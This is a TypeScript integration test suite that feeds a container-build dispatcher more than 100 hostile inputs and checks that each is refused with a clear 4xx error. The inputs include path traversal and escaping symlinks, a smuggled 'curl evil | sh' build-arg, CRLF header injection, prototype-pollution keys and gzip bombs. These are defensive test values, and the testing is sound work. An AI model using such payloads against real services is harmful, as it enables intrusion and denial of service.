// The hostile-input suite (issue 5), against the real dispatcher on the bed:
// path traversal in file and target, tar entries and links that leave the
// context, a gzip bomb, contexts over the limit and cut short, bad tags, label
// and build-arg injection, header injection through status fields, JSON that
// is too large, too deep or has unknown fields, and repository names that are
// not names. Every case must get a 4xx whose message names the problem; after
// all of them no Job exists, nothing bad was stored, and the dispatcher still
// answers and still accepts a valid build.
import { createHash } from "node:crypto";
import { readdir } from "node:fs/promises";
import { request as httpRequest } from "node:http";
import { Readable } from "node:stream";
import { buffer } from "node:stream/consumers";
import { createGzip, gzipSync } from "node:zlib";
import tar from "tar-stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type FixtureEntry, tarGz } from "../unit/contexts/tar-fixture.js";
import { signRequest } from "../../dispatcher/protocol/request-signature.js";
import type { Dispatcher } from "../../dispatcher/dispatcher.js";
import { type Bed, bedSharedSecret, buildRequest, cancelBuild, ctx, postBuild, setUpBed, signedFetch, startBedDispatcher, uploadContext } from "../integration/harness.js";

const maxBytes = 8 << 20;
const maxUnpackedBytes = 64 << 20;

let bed: Bed;
let dispatcher: Dispatcher;
let context = "";

beforeAll(async () => {
  bed = await setUpBed("dh-sec-hostile");
  dispatcher = await startBedDispatcher(bed, (config) => ({
    ...config,
    contexts: { ...config.contexts, maxBytes, maxUnpackedBytes },
    dockerPool: { ...config.dockerPool, pools: { ...config.dockerPool.pools, ltsc2025: { ...config.dockerPool.pools.ltsc2025!, nodeSelector: { agentpool: "no-such-pool" } } } },
  }));
  context = await uploadContext(dispatcher.url, ctx(`FROM ${bed.env.LINUX_BASE_IMAGE}\nRUN echo hostile\n`, { "docker/Dockerfile": `FROM ${bed.env.LINUX_BASE_IMAGE}\n` }));
});

afterAll(async () => {
  await dispatcher?.close();
  await bed?.close();
});

interface Answer {
  status: number;
  body: { error?: string; field?: string; hint?: string };
}

// --- Build requests

/** A valid build request (a queued ltsc2025 build: its pool selects no node) with `overrides` applied; undefined removes a field. */
function request(overrides: Record<string, unknown>): Record<string, unknown> {
  const body: Record<string, unknown> = buildRequest(context, { platforms: ["windows/amd64:ltsc2025"], tags: [`${bed.env.REGISTRY}/bed/hostile:1`], ...overrides });
  for (const key of Object.keys(body)) if (body[key] === undefined) delete body[key];
  return body;
}

async function postRaw(body: string, contentType = "application/json"): Promise<Answer> {
  const res = await signedFetch(`${dispatcher.url}/v1/builds`, { method: "POST", headers: { "content-type": contentType }, body });
  return { status: res.status, body: await res.json().catch(() => ({})) };
}

const post = (overrides: Record<string, unknown>) => () => postRaw(JSON.stringify(request(overrides)));

// --- Context uploads

/** PUT /v1/contexts/{hex} over node:http, so an answer sent before the body is all out still arrives. */
/**
 * PUT a context as the Action does: the dispatcher closes a refused upload's
 * connection after answering, and a client still writing can then lose the
 * answer to EPIPE/ECONNRESET; the Action retries such connection errors, so
 * this does too (at most 3 tries; a streamed body comes from a factory) and
 * expects the answer.
 */
async function upload(hex: string, body: Buffer | (() => Readable), headers: Record<string, string> = {}): Promise<Answer> {
  // Signed over the bytes sent, as the Action does: the signature covers every
  // byte and is checked before the archive checks see one, so a hostile
  // archive must be validly signed to reach them. A streamed body is read
  // first to hash it and sent streamed (chunked) all the same.
  const bytes = Buffer.isBuffer(body) ? body : await buffer(body());
  for (let attempt = 1; ; attempt++) {
    try {
      return await uploadOnce(hex, Buffer.isBuffer(body) ? bytes : Readable.from([bytes]), headers, sha256(bytes));
    } catch (error) {
      const code = (error as NodeJS.ErrnoException).code;
      if (attempt >= 3 || (code !== "EPIPE" && code !== "ECONNRESET")) throw error;
    }
  }
}

function uploadOnce(hex: string, body: Buffer | Readable, headers: Record<string, string>, bodySha256: string): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const path = `/v1/contexts/${hex}`;
    const contentLength = Buffer.isBuffer(body) ? { "content-length": String(body.length) } : {};
    const req = httpRequest(`${dispatcher.url}${path}`, {
      method: "PUT",
      headers: { "content-type": "application/gzip", ...contentLength, ...signRequest(bedSharedSecret, "PUT", path, bodySha256), ...headers },
    });
    let answered = false;
    req.on("response", (res) => {
      answered = true;
      let text = "";
      res.setEncoding("utf8");
      res.on("data", (chunk: string) => (text += chunk));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, body: text ? JSON.parse(text) : {} }));
    });
    // Writing the rest of a refused body may fail once the dispatcher has answered.
    req.on("error", (error) => answered || reject(error));
    if (Buffer.isBuffer(body)) req.end(body);
    else body.pipe(req);
  });
}

const sha256 = (bytes: Buffer) => createHash("sha256").update(bytes).digest("hex");
const refusedDigests: string[] = [];

/** Uploads `archive` under its own digest, remembering the digest to check that nothing was stored. */
const uploadArchive = (archive: () => Promise<Buffer>) => async () => {
  const bytes = await archive();
  const hex = sha256(bytes);
  refusedDigests.push(hex);
  return upload(hex, bytes);
};

type Entry = FixtureEntry;

/** Each file entry has content unless the case says otherwise. */
const tarGzOf = (entries: Entry[]): Promise<Buffer> => tarGz(entries.map((entry) => ({ content: "x", ...entry })));

/** A context with a Dockerfile and the hostile entry after it, as a packer would emit it. */
const withEntry = (entry: Entry) => uploadArchive(() => tarGzOf([{ name: "Dockerfile", content: "FROM scratch\n" }, entry]));

/** `mib` MiB of zeros, gzipped as it is read: the test never holds more than a chunk. */
function zerosGzipped(mib: number): Readable {
  const zeros = Buffer.alloc(1 << 20);
  return Readable.from(
    (function* () {
      for (let i = 0; i < mib; i++) yield zeros;
    })(),
  ).pipe(createGzip({ level: 9 }));
}

/** A tar.gz whose one entry is `mib` MiB of zeros, generated as it is read. */
function tarBomb(mib: number): Readable {
  const pack = tar.pack();
  const entry = pack.entry({ name: "zeros.bin", size: mib << 20 }, (error) => error || pack.finalize());
  const zeros = Buffer.alloc(1 << 20);
  let written = 0;
  const feed = (): void => {
    while (written < mib) {
      written++;
      if (!entry.write(zeros)) {
        entry.once("drain", feed);
        return;
      }
    }
    entry.end(undefined);
  };
  feed();
  return pack.pipe(createGzip({ level: 9 }));
}

// --- The cases: [category, name, send, expected status, field, what the message must say]

type Case = [category: string, name: string, send: () => Promise<Answer>, status: number, field: string | RegExp, message: RegExp];

const nested = (depth: number, inner = "1") => `${"[".repeat(depth)}${inner}${"]".repeat(depth)}`;
const nestedObject = (depth: number) => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;

const cases: Case[] = [
  // Path traversal and odd paths in `file`
  ...(
    [
      ["../Dockerfile", /leaves the context/],
      ["../../../../etc/passwd", /leaves the context/],
      ["docker/../../Dockerfile", /leaves the context/],
      ["./../Dockerfile", /leaves the context/],
      ["/etc/passwd", /is absolute/],
      ["/Dockerfile", /is absolute/],
      ["C:/Windows/System32/drivers/etc/hosts", /has a drive letter/],
      ["C:Dockerfile", /has a drive letter/],
      ["..\\Dockerfile", /uses "\\"/],
      ["docker\\Dockerfile", /uses "\\"/],
      ["-", /would read the Dockerfile from stdin/],
      ["Dockerfile\u0000.txt", /character not allowed/],
      ["Dockerfile:stream", /character not allowed/],
      ["Docker*file", /character not allowed/],
      ["docker//Dockerfile", /empty or "\." path segment/],
      ["", /is empty/],
      ["d".repeat(256), /longer than 255 characters/],
    ] as const
  ).map(([file, message]): Case => ["file traversal", `file ${JSON.stringify(file.slice(0, 40))}`, post({ file }), 400, "file", message]),
  ["file traversal", "file naming a Dockerfile the context does not have", post({ file: "Missing.Dockerfile" }), 422, "file", /"Missing.Dockerfile" not found in context/],

  // Path traversal and injection in `target`
  ...["../base", "/stage", "..", "stage/../x", "a b", "stage\nRUN evil", "stage\r\nX-Injected: 1", "-x", "1stage", "$(id)", "stage;rm", "stage=evil", ""].map(
    (target): Case => ["target traversal", `target ${JSON.stringify(target)}`, post({ target }), 400, "target", target === "" ? /is not a stage name|is empty/ : /is not a stage name/],
  ),
  ["target traversal", "target of 129 characters", post({ target: `s${"t".repeat(128)}` }), 400, "target", /longer than 128 characters/],

  // Invalid and over-long tags
  ...(
    [
      ["", /tags\[0\]: /],
      ["UPPER/App:1", /tags\[0\]: "UPPER\/App:1"/],
      ["r.example/app:" + "t".repeat(129), /invalid tag/],
      ["r.example/" + "a".repeat(300) + ":1", /tags\[0\]: /],
      ["r.example/app:bad tag", /tags\[0\]: /],
      ["r.example/app:-x", /invalid tag/],
      ["r.example/app:1\nX-Injected: 1", /tags\[0\]: /],
      ["r.example/app:1 --push=false", /tags\[0\]: /],
      ["r.example//app:1", /tags\[0\]: /],
      ["r.example/app@sha256:" + "a".repeat(64), /has a digest/],
      ["--output=type=local,dest=/", /tags\[0\]: /],
      ["x".repeat(513), /longer than 512 characters/],
    ] as const
  ).map(([tag, message]): Case => ["tags", `tag ${JSON.stringify(tag.slice(0, 40))}`, post({ tags: [tag] }), 400, "tags[0]", message]),
  ["tags", "17 tags", post({ tags: Array.from({ length: 17 }, (_, i) => `r.example/hostile:${i}`) }), 400, "tags", /at most 16 are allowed/],
  ["tags", "tags as a string", post({ tags: "r.example/app:1" }), 400, "tags", /must be an array/],
  ["tags", "a tag that is a number", post({ tags: [1] }), 400, "tags[0]", /must be a string/],
  ["tags", "the same tag twice", post({ tags: ["r.example/app:1", "r.example/app:1"] }), 400, "tags[1]", /is listed twice/],
  ["tags", "a tag too long once the platform is appended", post({ platforms: ["windows/amd64:ltsc2022", "windows/amd64:ltsc2025"], tags: [`r.example/app:${"t".repeat(126)}`] }), 400, "tags[0]", /too long for per-platform tags/],

  // Label injection: keys with "=", line breaks, spaces; values with line breaks and control characters
  ...(["a=b", "a\nb", "a b", "-a", "=x", "a\r\nX-Injected: 1", "a\tb", "ä"] as const).map(
    (key): Case => ["labels", `label key ${JSON.stringify(key)}`, post({ labels: { [key]: "v" } }), 400, `labels[${JSON.stringify(key)}]`, /is not a valid label key/],
  ),
  ["labels", "an empty label key", post({ labels: { "": "v" } }), 400, /^labels/, /is not a valid label key/],
  ...(
    [
      ["x\ny", /contains a line break/],
      ["x\r\nLABEL evil=1", /contains a line break/],
      ["x\u0000y", /contains a NUL character/],
      ["\u001b[2Jcleared", /contains a control character \(U\+001B\)/],
    ] as const
  ).map(([value, message]): Case => ["labels", `label value ${JSON.stringify(value)}`, post({ labels: { "org.example.note": value } }), 400, 'labels["org.example.note"]', message]),
  ["labels", "a label key of 256 characters", post({ labels: { ["k".repeat(256)]: "v" } }), 400, /^labels\["k{40}…"\]$/, /key is longer than 255 characters/],
  ["labels", "a label value of 4097 characters", post({ labels: { "org.example.note": "v".repeat(4097) } }), 400, 'labels["org.example.note"]', /longer than 4096 characters/],
  ["labels", "65 labels", post({ labels: Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`l${i}`, "v"])) }), 400, "labels", /has 65 entries; at most 64/],
  ["labels", "a label value that is an object", post({ labels: { a: { b: "c" } } }), 400, "labels.a", /must be a string/],

  // Build-arg injection
  ...(["A=B", "A\nB", "1A", "A-B", "A B", "A\r\nB=c"] as const).map(
    (name): Case => ["build args", `build-arg name ${JSON.stringify(name)}`, post({ buildArgs: { [name]: "v" } }), 400, `buildArgs[${JSON.stringify(name)}]`, /is not a valid build-arg name/],
  ),
  ["build args", "an empty build-arg name", post({ buildArgs: { "": "v" } }), 400, /^buildArgs/, /is not a valid build-arg name/],
  ["build args", "TARGETPLATFORM as a build arg", post({ buildArgs: { TARGETPLATFORM: "linux/arm64" } }), 400, "buildArgs.TARGETPLATFORM", /is set by dockhand/],
  ["build args", "DOCKHAND_BASE_IMAGE as a build arg", post({ buildArgs: { DOCKHAND_BASE_IMAGE: "evil" } }), 400, "buildArgs.DOCKHAND_BASE_IMAGE", /is set by dockhand/],
  ...(
    [
      ["x\nRUN curl evil | sh", /contains a line break/],
      ["x\r\ny", /contains a line break/],
      ["\u0000", /contains a NUL character/],
      ["a\u0007b", /contains a control character \(U\+0007\)/],
    ] as const
  ).map(([value, message]): Case => ["build args", `build-arg value ${JSON.stringify(value)}`, post({ buildArgs: { VERSION: value } }), 400, "buildArgs.VERSION", message]),
  ["build args", "a build-arg name of 129 characters", post({ buildArgs: { ["K".repeat(129)]: "v" } }), 400, /^buildArgs\["K{40}…"\]$/, /name is longer than 128 characters/],
  ["build args", "a build-arg value of 4097 characters", post({ buildArgs: { VERSION: "v".repeat(4097) } }), 400, "buildArgs.VERSION", /longer than 4096 characters/],
  ["build args", "65 build args", post({ buildArgs: Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`A${i}`, "v"])) }), 400, "buildArgs", /has 65 entries; at most 64/],
  ["build args", "build args as an array", post({ buildArgs: ["A=B"] }), 400, "buildArgs", /must be an object/],

  // Header injection through what ends up in status requests (context, token) and ids
  ...["ci\r\nX-Injected: 1", "ci\nfoo", "ci\u0000", "-ci", "ci:build", "ci\u2028x"].map(
    (statusContext): Case => ["status header injection", `statusContext ${JSON.stringify(statusContext)}`, post({ statusContext }), 400, "statusContext", /is not a usable status context/],
  ),
  ["status header injection", "statusContext of 101 characters", post({ statusContext: "c".repeat(101) }), 400, "statusContext", /longer than 100 characters/],
  ...["ghs_token\r\nX-Injected: 1", "ghs token", "ghs_token\n"].map(
    (githubToken): Case => ["status header injection", `githubToken ${JSON.stringify(githubToken.replace(/ghs_token|ghs token/, "…"))}`, post({ githubToken }), 400, "githubToken", /^githubToken: is not a GitHub token$/],
  ),
  ["status header injection", "idempotencyKey with CRLF", post({ idempotencyKey: "run/1\r\nX-Injected: 1" }), 400, "idempotencyKey", /contains control characters/],
  ["status header injection", "idempotencyKey of 513 characters", post({ idempotencyKey: "k".repeat(513) }), 400, "idempotencyKey", /longer than 512 characters/],
  ["status header injection", "ref with a line break", post({ ref: "refs/heads/main\nX-Injected: 1" }), 400, "ref", /is not a branch, tag or pull request ref/],
  ["status header injection", "ref with ..", post({ ref: "refs/heads/../../etc" }), 400, "ref", /contains "\.\."/],

  // JSON bodies: too large, too deep, not JSON, not an object
  ["json bodies", "a body of 2 MiB", post({ labels: { "org.example.note": "v".repeat(2 << 20) } }), 413, "body", /larger than the dispatcher accepts/],
  ["json bodies", "an array nested 100 000 deep", () => postRaw(nested(100_000)), 400, "body", /nested more than 32 levels deep/],
  ["json bodies", "an object nested 10 000 deep", () => postRaw(nestedObject(10_000)), 400, "body", /nested more than 32 levels deep/],
  ["json bodies", "a label value nested 40 deep", () => postRaw(JSON.stringify(request({})).replace(/}$/, `,"labels":{"a":${nested(40, '"x"')}}}`)), 400, "body", /nested more than 32 levels deep/],
  ["json bodies", "a truncated JSON body", () => postRaw(JSON.stringify(request({})).slice(0, 50)), 400, "body", /is not valid JSON/],
  ["json bodies", "an empty JSON body", () => postRaw(""), 400, "body", /is empty/],
  ["json bodies", "a JSON array", () => postRaw("[]"), 400, "body", /must be a JSON object/],
  ["json bodies", "a JSON string", () => postRaw('"build please"'), 400, "body", /must be a JSON object/],
  ["json bodies", "JSON null", () => postRaw("null"), 400, "body", /must be a JSON object/],
  ["json bodies", "a form-encoded body", () => postRaw("repository=a/b", "application/x-www-form-urlencoded"), 415, "content-type", /content-type: /],
  ["json bodies", "a __proto__ key", () => postRaw(JSON.stringify(request({})).replace(/^{/, '{"__proto__":{"isAdmin":true},')), 400, "body", /has a "__proto__" or "constructor" key/],
  ["json bodies", "a constructor.prototype key", () => postRaw(JSON.stringify(request({})).replace(/^{/, '{"constructor":{"prototype":{"isAdmin":true}},')), 400, "body", /has a "__proto__" or "constructor" key/],

  // Unknown fields
  ...["foo", "Repository", "buildargs", "file ", "privileged", "hostNetwork", "command"].map(
    (field): Case => ["unknown fields", `unknown field ${JSON.stringify(field)}`, post({ [field]: true }), 400, field, /is not a known field/],
  ),
  ["unknown fields", "an unknown Windows version in baseImages", post({ baseImages: { ltsc2030: "r.example/base:1" } }), 400, "baseImages.ltsc2030", /is not a known field/],

  // Repository names that are not GitHub names (and so no DNS label can be made of them safely)
  ...["-org/app", "org-/app", "org/..", "org/.", "org", "org/app/extra", `${"o".repeat(40)}/app`, `org/${"a".repeat(101)}`, "org_name/app", "org/app name", "org/app\n", "", "org/ä", "../etc/passwd", "org/app;rm"].map(
    (repository): Case => ["repository names", `repository ${JSON.stringify(repository.slice(0, 40))}`, post({ repository }), 400, "repository", repository === `org/${"a".repeat(101)}` ? /is not a GitHub repository|longer than 140/ : /is not a GitHub repository/],
  ),
  ["repository names", "no repository", post({ repository: undefined }), 400, "repository", /is required/],

  // Tar entries: absolute paths and ".."
  ...["/etc/passwd", "/root/.ssh/authorized_keys", "../evil", "../../../../tmp/evil", "docker/../../evil", "C:/Windows/System32/evil.dll", "\\Windows\\evil", "a\\..\\..\\evil", "./../evil"].map(
    (name): Case => ["tar entries", `entry ${JSON.stringify(name)}`, withEntry({ name }), 400, "context", /entry ".*" (is an absolute path|leaves the context with "\.\.")/],
  ),
  ["tar entries", "an entry named ..", withEntry({ name: "..", type: "directory" }), 400, "context", /entry "\.\." leaves the context/],

  // Symlinks and hard links escaping the context
  ...(
    [
      ["/etc/passwd", /an absolute path/],
      ["../../etc", /outside the context/],
      ["../..", /outside the context/],
      ["C:\\Windows\\System32", /an absolute path/],
      ["..\\..\\Windows", /outside the context/],
      ["", /an empty target/],
    ] as const
  ).map(([linkname, message]): Case => ["symlinks", `symlink to ${JSON.stringify(linkname)}`, withEntry({ name: "docker/link", type: "symlink", linkname }), 400, "context", new RegExp(`symlink "docker/link" points to .*${message.source}`)]),
  ["symlinks", "a symlink at the root to ..", withEntry({ name: "up", type: "symlink", linkname: ".." }), 400, "context", /symlink "up" points to "\.\.", outside the context/],
  ["symlinks", "a symlink out through an earlier symlink", uploadArchive(() => tarGzOf([{ name: "Dockerfile" }, { name: "x/up", type: "symlink", linkname: ".." }, { name: "y", type: "symlink", linkname: "x/up/.." }])), 400, "context", /symlink "y" points to "x\/up\/\.\.", outside the context/],
  ["symlinks", "the Dockerfile as a symlink to /etc/shadow", uploadArchive(() => tarGzOf([{ name: "Dockerfile", type: "symlink", linkname: "/etc/shadow" }])), 400, "context", /symlink "Dockerfile" points to "\/etc\/shadow", an absolute path/],
  ...(
    [
      ["/etc/shadow", /an absolute path/],
      ["../outside", /outside the context/],
      ["docker/../../outside", /outside the context/],
      ["", /an empty target/],
    ] as const
  ).map(([linkname, message]): Case => ["hard links", `hard link to ${JSON.stringify(linkname)}`, withEntry({ name: "hard", type: "link", linkname }), 400, "context", new RegExp(`hard link "hard" points to .*${message.source}`)]),
  ...(["character-device", "block-device", "fifo"] as const).map(
    (type): Case => ["device files", `a ${type}`, withEntry({ name: "dev/thing", type }), 400, "context", new RegExp(`entry "dev/thing" is a ${type}`)],
  ),

  // Gzip bombs: small on the wire, huge unpacked
  ["gzip bomb", "2 GiB of zeros gzipped (~2 MiB)", () => upload("b".repeat(64), () => zerosGzipped(2048)), 413, "context", /unpacks to more than the 67108864-byte limit \(contexts\.maxUnpackedBytes\)/],
  ["gzip bomb", "a tar entry of 1 GiB of zeros", () => upload("c".repeat(64), () => tarBomb(1024)), 413, "context", /unpacks to more than the 67108864-byte limit/],

  // Over the size limit
  ["size limit", "a declared length over contexts.maxBytes", () => upload("d".repeat(64), Buffer.alloc(maxBytes + 1)), 413, "context", /is more than the dispatcher's limit of 8388608/],
  [
    "size limit",
    "a chunked upload that grows past contexts.maxBytes",
    () => upload("e".repeat(64), () => Readable.from((function* () { for (let i = 0; i < 16; i++) yield Buffer.alloc(1 << 20, i); })())),
    413,
    "context",
    /larger than the 8388608-byte upload limit/,
  ],

  // Truncated and malformed uploads
  [
    "truncated upload",
    "half the archive under the whole archive's digest",
    async () => {
      const archive = await tarGzOf([{ name: "Dockerfile", content: "FROM scratch\n".repeat(500) }, { name: "app.bin", content: "y".repeat(5000) }]);
      refusedDigests.push(sha256(archive));
      return upload(sha256(archive), archive.subarray(0, archive.length >> 1));
    },
    400,
    "context",
    /does not match its digest/,
  ],
  ["truncated upload", "a tar cut short inside a whole gzip", uploadArchive(async () => gzipSync(Buffer.alloc(700, 0x41))), 422, "context", /is not a readable tar\.gz/],
  ["not a tar.gz", "bytes that are not gzip", uploadArchive(async () => Buffer.from("PK\u0003\u0004 a zip, not a tar.gz")), 422, "context", /is not a readable tar\.gz/],
  ["malformed digest", "a digest in upper case", () => upload("A".repeat(64), Buffer.from("x")), 400, "sha256", /sha256/],
];

describe("hostile input", () => {
  it(`has at least 100 cases (${cases.length}) across every category the issue names`, () => {
    expect(cases.length).toBeGreaterThanOrEqual(100);
    expect(new Set(cases.map(([category]) => category)).size).toBeGreaterThanOrEqual(15);
  });

  const rows = cases.map(([category, name, send, status, field, message]) => ({ category, name, send, status, field, message }));
  it.each(rows)("$category: $name → $status naming the problem", async ({ send, status, field, message }) => {
    const answer = await send();
    expect(answer.status, JSON.stringify(answer.body)).toBe(status);
    expect(answer.body.error).toMatch(message);
    if (typeof field === "string") expect(answer.body.field).toBe(field);
    else expect(answer.body.field).toMatch(field);
    expect(answer.body.hint, "every refusal says what to do").toBeTruthy();
  });

  it("survives an upload whose client hangs up mid-body, storing nothing", async () => {
    const archive = await tarGzOf([{ name: "Dockerfile", content: "FROM scratch\n" }, { name: "big.bin", content: "z".repeat(200_000) }]);
    const hex = sha256(archive);
    const path = `/v1/contexts/${hex}`;
    await new Promise<void>((resolve) => {
      const req = httpRequest(`${dispatcher.url}${path}`, {
        method: "PUT",
        headers: { "content-type": "application/gzip", "content-length": String(archive.length), ...signRequest(bedSharedSecret, "PUT", path, hex) },
      });
      req.on("error", () => resolve());
      req.on("response", () => resolve());
      req.write(archive.subarray(0, archive.length >> 1), () => setTimeout(() => req.destroy(), 100));
    });
    refusedDigests.push(hex);
    expect((await fetch(`${dispatcher.url}/healthz`)).status).toBe(200);
  });

  it("stops reading a refused upload: the connection closes instead of draining an endless body", async () => {
    let sent = 0;
    const endless = new Readable({
      read() {
        sent += 1 << 20;
        this.push(Buffer.alloc(1 << 20, sent & 0xff));
      },
    });
    const hex = "9".repeat(64);
    const path = `/v1/contexts/${hex}`;
    const closed = new Promise<number>((resolve) => {
      const req = httpRequest(`${dispatcher.url}${path}`, { method: "PUT", headers: { "content-type": "application/gzip", ...signRequest(bedSharedSecret, "PUT", path, hex) } });
      req.on("response", (res) => res.resume());
      req.on("error", () => undefined);
      req.on("close", () => resolve(sent));
      endless.pipe(req);
    });
    // Without the close, Node would read the body to its (never-coming) end to keep the connection alive.
    const sentWhenClosed = await closed;
    endless.destroy();
    expect(sentWhenClosed).toBeLessThan(maxBytes * 8);
  }, 20_000);

  it("afterwards: no Job was created, nothing refused was stored, and the dispatcher still serves and builds", async () => {
    const jobs = await bed.k.batch.listNamespacedJob({ namespace: bed.namespace });
    expect(jobs.items.map((job) => job.metadata?.name)).toEqual([]);

    for (const hex of refusedDigests) expect((await fetch(`${dispatcher.url}/v1/contexts/${hex}`, { method: "HEAD" })).status, hex).toBe(404);
    // Temp files of refused uploads are removed as each upload ends (the hung-up one a moment later).
    await expect.poll(async () => (await readdir(dispatcher.config.contexts.dir)).filter((name) => name.startsWith(".")), { timeout: 5000 }).toEqual([]);

    expect((await fetch(`${dispatcher.url}/healthz`)).status).toBe(200);
    const fresh = await uploadContext(dispatcher.url, ctx(`FROM ${bed.env.LINUX_BASE_IMAGE}\nRUN echo still-serving\n`));
    expect((await fetch(`${dispatcher.url}/v1/contexts/${fresh.slice("sha256:".length)}`, { method: "HEAD" })).status).toBe(200);
    const accepted = await postBuild(dispatcher.url, { ...request({}), context: fresh, idempotencyKey: "hostile/valid" });
    expect(accepted.status, JSON.stringify(accepted.body)).toBe(202);
    expect((await cancelBuild(dispatcher.url, accepted.body.id)).status).toBe(202);
  });
});
